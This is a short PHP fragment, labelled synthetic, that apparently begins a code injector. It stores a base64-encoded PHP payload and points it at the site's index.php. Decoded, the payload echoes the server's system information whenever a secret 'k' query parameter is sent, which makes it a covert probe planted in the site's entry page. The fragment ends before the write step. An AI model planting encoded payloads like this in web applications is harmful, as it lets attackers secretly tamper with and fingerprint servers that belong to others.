<?php
// synthetic: another PHP program carried as base64, to be injected elsewhere
$inject = 'PD9waHAKaWYgKGlzc2V0KCRfR0VUWyJrIl0pKSB7IGVjaG8gcGhwX3VuYW1lKCk7IH0K';
$target = dirname(__FILE__) . '/index.php';
